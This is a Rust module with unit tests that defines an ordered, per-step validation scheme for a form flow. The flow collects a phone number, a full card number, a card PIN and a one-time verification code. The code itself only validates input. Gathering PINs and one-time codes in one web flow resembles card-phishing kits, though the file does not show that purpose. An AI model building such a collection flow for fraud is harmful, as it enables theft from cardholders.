//! Per-step field declarations
//!
//! The declared order of a step's fields is the deterministic
//! validation order: the first failing field is the step's single
//! rejection reason.

use std::collections::HashMap;

use fg_shared::utils::validation::{sanitize_digits, FieldKind};

use crate::domain::flow::StepKind;
use crate::errors::{DomainError, DomainResult};

/// One input field of a step
#[derive(Debug, Clone, Copy)]
pub struct FieldSpec {
    /// Wire name of the field
    pub name: &'static str,
    /// Validation class
    pub kind: FieldKind,
}

/// A step's ordered field set
#[derive(Debug, Clone, Copy)]
pub struct StepSpec {
    pub step: StepKind,
    pub fields: &'static [FieldSpec],
}

static INTAKE: StepSpec = StepSpec {
    step: StepKind::Intake,
    fields: &[
        FieldSpec {
            name: "phone",
            kind: FieldKind::Phone,
        },
        FieldSpec {
            name: "card_number",
            kind: FieldKind::CardNumber,
        },
    ],
};

static CARD_DETAILS: StepSpec = StepSpec {
    step: StepKind::CardDetails,
    fields: &[
        FieldSpec {
            name: "last_two",
            kind: FieldKind::LastTwoDigits,
        },
        FieldSpec {
            name: "pin",
            kind: FieldKind::Pin,
        },
    ],
};

static VERIFICATION: StepSpec = StepSpec {
    step: StepKind::Verification,
    fields: &[FieldSpec {
        name: "code",
        kind: FieldKind::OneTimeCode,
    }],
};

/// Field set for a submittable step; `None` for the terminal step
pub fn spec_for(step: StepKind) -> Option<&'static StepSpec> {
    match step {
        StepKind::Intake => Some(&INTAKE),
        StepKind::CardDetails => Some(&CARD_DETAILS),
        StepKind::Verification => Some(&VERIFICATION),
        StepKind::Complete => None,
    }
}

impl StepSpec {
    /// Sanitize and validate the submitted values in declared order.
    ///
    /// Returns the sanitized (digit-only) values keyed by field name.
    /// A missing field fails the same way an invalid one does.
    pub fn validate(
        &self,
        values: &HashMap<String, String>,
    ) -> DomainResult<HashMap<&'static str, String>> {
        let mut sanitized = HashMap::with_capacity(self.fields.len());
        for field in self.fields {
            let raw = values.get(field.name).map(String::as_str).unwrap_or("");
            let clean = sanitize_digits(raw);
            if !field.kind.is_valid(&clean) {
                return Err(DomainError::Validation {
                    field: field.name.to_string(),
                    message: field.kind.error_message().to_string(),
                });
            }
            sanitized.insert(field.name, clean);
        }
        Ok(sanitized)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values(pairs: &[(&str, &str)]) -> HashMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn first_failing_field_wins() {
        let spec = spec_for(StepKind::Intake).unwrap();
        // Both fields invalid; phone is declared first so it must be reported
        let result = spec.validate(&values(&[("phone", "123"), ("card_number", "456")]));
        match result {
            Err(DomainError::Validation { field, .. }) => assert_eq!(field, "phone"),
            other => panic!("expected validation error, got {:?}", other.map(|_| ())),
        }
    }

    #[test]
    fn missing_field_is_reported_like_invalid() {
        let spec = spec_for(StepKind::CardDetails).unwrap();
        let result = spec.validate(&values(&[("pin", "1234")]));
        match result {
            Err(DomainError::Validation { field, .. }) => assert_eq!(field, "last_two"),
            other => panic!("expected validation error, got {:?}", other.map(|_| ())),
        }
    }

    #[test]
    fn values_are_sanitized_before_validation() {
        let spec = spec_for(StepKind::Intake).unwrap();
        let sanitized = spec
            .validate(&values(&[
                ("phone", "55 1234-5678"),
                ("card_number", "4111 1111 1111 1111"),
            ]))
            .unwrap();
        assert_eq!(sanitized["phone"], "5512345678");
        assert_eq!(sanitized["card_number"], "4111111111111111");
    }

    #[test]
    fn terminal_step_has_no_spec() {
        assert!(spec_for(StepKind::Complete).is_none());
    }
}
